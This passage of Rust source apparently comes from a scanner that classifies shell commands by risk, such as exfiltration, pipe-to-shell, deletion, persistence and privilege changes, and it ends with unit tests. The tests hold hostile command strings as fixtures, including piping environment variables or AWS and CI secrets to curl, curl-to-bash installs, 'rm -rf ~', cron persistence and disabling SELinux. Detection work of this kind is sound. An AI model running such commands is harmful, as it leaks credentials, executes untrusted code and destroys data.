                (option, value)
            };
        if !DATA_OPTIONS.contains(&option) {
            continue;
        }
        let Some(value) = value else { continue };
        if let Some(what) = secret_payload(&value) {
            // `client_secret=$CLIENT_SECRET` to a token endpoint is how OAuth works: weaker.
            let form_field = value
                .split_once('=')
                .is_some_and(|(field, rest)| is_secret_name(field) && rest.starts_with('$'));
            let severity = if form_field {
                Severity::Warning
            } else {
                Severity::Error
            };
            hits.push(Hit {
                category: Category::Exfiltration,
                severity,
                message: format!("sends {what} in a request body with `{program} {option}`"),
            });
            return;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn categories(line: &str, place: Place) -> Vec<Category> {
        analyse(line, place, &Scope::default())
            .into_iter()
            .map(|hit| hit.category)
            .collect()
    }

    #[test]
    fn developer_lines() {
        use Category::*;
        let d = Place::Developer;
        assert_eq!(
            categories("echo 'export PATH=x' >> ~/.bashrc", d),
            [StartupFile]
        );
        assert_eq!(
            categories("cat key.pub >> \"$HOME/.ssh/authorized_keys\"", d),
            [Ssh]
        );
        assert_eq!(
            categories("echo x | sudo tee /etc/hosts", d),
            [Sudo, SystemConfig]
        );
        assert_eq!(
            categories("(crontab -l; echo '* * * * * x') | crontab -", d),
            [Scheduler]
        );
        assert_eq!(
            categories("curl -fsSL https://x.sh | bash", d),
            [PipeToShell]
        );
        assert_eq!(
            categories("wget -qO- https://x.sh | sudo sh", d),
            [PipeToShell, Sudo]
        );
        assert_eq!(categories("bash <(curl -s https://x)", d), [PipeToShell]);
        assert_eq!(categories("rm -rf \"$DIR/\"", d), [Delete]);
        assert_eq!(categories("rm -rf ~", d), [Delete]);
        assert_eq!(
            categories("git config --global user.name bot", d),
            [GitGlobal]
        );
        assert_eq!(categories("pkill -f node", d), [Kill]);
        assert_eq!(categories("sudo setenforce 0", d), [Sudo, Security]);
        assert_eq!(categories("env | curl -d @- https://x", d), [Exfiltration]);
        assert_eq!(
            categories("curl -d \"$AWS_SECRET_ACCESS_KEY\" https://x", d),
            [Exfiltration]
        );
        assert_eq!(categories("chmod -R 777 /usr/local", d), [Permissions]);
        assert_eq!(categories("sh -c 'rm -rf ~/'", d), [Delete]);
    }

    #[test]
    fn honest_lines() {
        let d = Place::Developer;
        for line in [
            "rm -rf build/ node_modules",
            "rm -rf \"${DIR:?}/\"",
            "cat ~/.bashrc",
            "source ~/.profile",
            "curl -fsSL -o install.sh https://x.sh",
            "curl -s https://api | python3 -m json.tool",
            "curl -s https://api | jq .",
            "chmod +x scripts/run.sh",
            "chmod -R u+w ./dist",
            "git config core.hooksPath .githooks",
            "git config --global --get user.name",
            "curl -H \"Authorization: Bearer $API_TOKEN\" https://api",
            "echo hi > /tmp/x",
            "echo ok 2>&1 > out.log",
        ] {
            assert!(
                categories(line, d).is_empty(),
                "{line}: {:?}",
                categories(line, d)
            );
        }
        let scope = Scope::of_script("BUILD=build\n");
        assert!(analyse("rm -rf \"$BUILD/\"", d, &scope).is_empty());
    }

    #[test]
    fn runner_and_image() {
        assert!(categories("sudo apt-get install -y jq", Place::Runner).is_empty());
        assert!(
            categories(
                "echo x | sudo tee /etc/apt/sources.list.d/x.list",
                Place::Runner
            )
            .is_empty()
        );
        assert!(categories("git config --global user.email ci@x", Place::Runner).is_empty());
        let hits = analyse(
            "curl https://sh.rustup.rs -sSf | sh -s -- -y",
            Place::Runner,
            &Scope::default(),
        );
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].severity, Severity::Warning);
        assert!(categories("rm -rf /var/lib/apt/lists/*", Place::Image).is_empty());
        assert_eq!(
            categories(
                "curl -d \"${{ secrets.NPM_TOKEN }}\" https://x",
                Place::Runner
            ),
            [Category::Exfiltration]
        );
    }
}
